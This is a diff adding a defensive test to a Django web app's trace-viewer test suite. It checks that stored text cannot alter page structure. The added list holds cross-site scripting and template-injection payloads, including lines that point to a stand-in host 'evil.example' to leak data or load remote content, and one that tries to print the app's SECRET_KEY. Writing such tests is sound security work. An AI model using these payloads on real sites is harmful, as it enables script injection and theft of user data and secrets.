@@ -1,6 +1,7 @@
 """The pages of traces."""
 
 import json
+from html.parser import HTMLParser
 
 import pytest
 from django.contrib.auth import get_user_model
@@ -288,3 +289,53 @@ def test_a_session_leads_to_its_traces(viewer):
     html = html_of(viewer, link)
     assert "abcdef12" in html
     assert "bbcdef12" not in html
+
+
+PAYLOADS = [
+    SCRIPT,
+    '"><svg onload=alert(1)>',
+    "' autofocus onfocus=alert(1) x='",
+    "javascript:alert(1)",
+    "[click](javascript:alert(1)) ![x](https://evil.example/?data)",
+    "<a href=javascript:alert(1)>x</a><base href=//evil.example>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "</textarea></title></style><link rel=stylesheet href=//evil.example>",
+    "<form action=//evil.example><button formaction=javascript:alert(1)>",
+    "<!-- --><meta http-equiv=refresh content=0;url=//evil.example>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "{{ settings.SECRET_KEY }}{% debug %}{0.__class__} %(x)s",
+    "<ScRiPt\n>alert(1)</sCrIpT\t>",
+    "<\0script>alert(1)</script>",
+]
+
+
+class Skeleton(HTMLParser):
+    """The elements of a page, with the attributes that can do something."""
+
+    def __init__(self, html):
+        super().__init__()
+        self.elements = []
+        self.feed(html)
+
+    def handle_starttag(self, tag, attrs):
+        acting = [(k, v) for k, v in attrs if k in ("src", "action", "formaction", "style")]
+        names = [k for k, _ in attrs]
+        self.elements.append((tag, names, acting))
+        targets = [v or "" for k, v in attrs if k == "href"]
+        assert all(target.startswith(("/", "?", "#")) or "." in target for target in targets)
+        assert not any("script:" in target or "evil" in target for target in targets)
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_whatever_was_written_a_page_has_the_same_elements(viewer, payload):
+    def page(text, uuid):
+        trace = make_trace(uuid, spans=2, input=text, output=text, error=text, status="failed")
+        trace.opening_json = json.dumps({"system": text})
+        trace.metadata_json = json.dumps({text: text})
+        trace.save()
+        written = json.dumps({"role": "assistant", "content": text})
+        trace.spans.update(name=text[:100], error=text, error_type="E", output_json=written)
+        return Skeleton(html_of(viewer, page_of(trace))).elements
+
+    payload = payload.replace("\0", "␀")
+    assert page(payload, "aa") == page("x" * len(payload), "bb")
